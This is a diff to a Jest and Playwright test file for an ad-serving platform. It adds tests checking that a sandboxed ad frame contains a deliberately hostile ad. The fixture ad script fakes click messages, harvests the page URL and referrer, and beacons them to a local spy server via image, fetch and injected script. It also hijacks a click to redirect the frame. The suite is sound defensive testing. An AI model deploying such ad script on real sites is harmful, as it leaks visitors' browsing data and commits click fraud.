@@ -1,7 +1,7 @@
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { afterAll, beforeAll, expect, it } from '@jest/globals';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { accessToken, logIn, send, startApp, type TestApp } from '../support/app';
 import { desktopUserAgent, launchBrowser } from '../support/browser';
@@ -19,6 +19,7 @@ let siteId: string;
 let apiToken: string;
 /** What the publisher's page carries at the moment. */
 let body = '';
+let pages = 0;
 
 async function listen(answer: () => string): Promise<Server> {
   const server = createServer((_req, res) => {
@@ -60,7 +61,7 @@ async function createAd(content: Buffer | string, options: UploadOptions): Promi
 async function openPage(size: string): Promise<Page> {
   const { placement } = await ask(
     'mutation ($siteId: ID!, $input: CreatePlacementInput!) { placement: createPlacement(siteId: $siteId, input: $input) { embedCode } }',
-    { siteId, input: { name: size, size } },
+    { siteId, input: { name: `${size} ${++pages}`, size } },
   );
   body = `<!doctype html><title>News</title><h1>News</h1>${placement.embedCode}`;
   return context.newPage();
@@ -110,6 +111,88 @@ it('shows a document in a frame that can do nothing to the page, and takes its c
   expect(await offer.evaluate('origin')).toBe('null');
   const [landing] = await Promise.all([context.waitForEvent('page'), offer.click()]);
   await landing.waitForURL(/\/landing/);
+});
+
+describe('a hostile document', () => {
+  /** Where a document wants to tell something. */
+  let spy: Server;
+  const visits: string[] = [];
+  const escapes = (url: string) => `
+    setInterval(() => { focus(); parent.postMessage({ type: 'adgate:click' }, '*'); }, 20);
+    const told = [document.baseURI, document.referrer, location.href].join(' ');
+    new Image().src = '${url}/image?' + told;
+    fetch('${url}/fetch?' + told).catch(() => {});
+    const script = document.createElement('script');
+    script.src = '${url}/script';
+    document.head.append(script);
+    document.body.dataset.told = told;
+    document.getElementById('go').onclick = (event) => {
+      event.stopPropagation();
+      location = '${url}/frame';
+    };`;
+
+  beforeAll(async () => {
+    spy = createServer((req, res) => {
+      visits.push(String(req.url));
+      res.setHeader('Content-Type', 'text/html').end('<p id="elsewhere">Elsewhere');
+    }).listen(0, '127.0.0.1');
+    await once(spy, 'listening');
+    const content = aDocument(
+      `<style>* { margin: 0 } b { display: block; height: 30px }</style><b>Buy</b><b id="go">Go</b><script>${escapes(urlOf(spy))}</script>`,
+      '<meta name="referrer" content="unsafe-url">',
+    );
+    await createAd(content, { type: 'html', scope: '468x60' });
+  });
+  afterAll(() => {
+    spy.close();
+  });
+
+  /** Steps into no frame: what looks into one by the browser's debugger passes there for the visitor. */
+  async function openHostile(): Promise<{ page: Page; windows: unknown[] }> {
+    const page = await openPage('468x60');
+    body = `<style>* { margin: 0 } h1 { height: 100px }</style>${body}`;
+    const served = page.waitForResponse((response) => response.url().includes('/serve/'));
+    await page.goto(`${urlOf(publisher)}/secret?visitor=7`);
+    await (await served).finished();
+    await page.waitForTimeout(500);
+    const windows: unknown[] = [];
+    context.on('page', (opened) => windows.push(opened.url()));
+    return { page, windows };
+  }
+  const onPage = [10, 20] as const;
+  const onBuy = [10, 110] as const;
+  const onGo = [10, 135] as const;
+
+  it('opens no window by itself, nor by a click that the page was meant with', async () => {
+    const { page, windows } = await openHostile();
+    await page.mouse.click(...onPage);
+    await page.waitForTimeout(500);
+    expect(windows).toEqual([]);
+  });
+
+  it('opens one window by a click in it', async () => {
+    const { page, windows } = await openHostile();
+    await page.mouse.click(...onBuy);
+    await page.waitForTimeout(1_000);
+    expect(windows).toHaveLength(1);
+  });
+
+  it('loads nothing and learns nothing of the page', async () => {
+    const { page } = await openHostile();
+    expect(visits).toEqual([]);
+    const frame = page.frameLocator('[data-placement] iframe');
+    const told = await frame.locator('body').getAttribute('data-told');
+    expect(told).toMatch(/^data:/);
+    expect(told).not.toContain('127.0.0.1:');
+    expect(told).not.toContain('secret');
+  });
+
+  it('goes when it leads its frame elsewhere', async () => {
+    const { page } = await openHostile();
+    await page.mouse.click(...onGo);
+    await page.waitForFunction('document.querySelector("[data-placement] iframe") === null');
+    expect(visits).toEqual(['/frame']);
+  });
 });
 
 it('opens a window with a click', async () => {
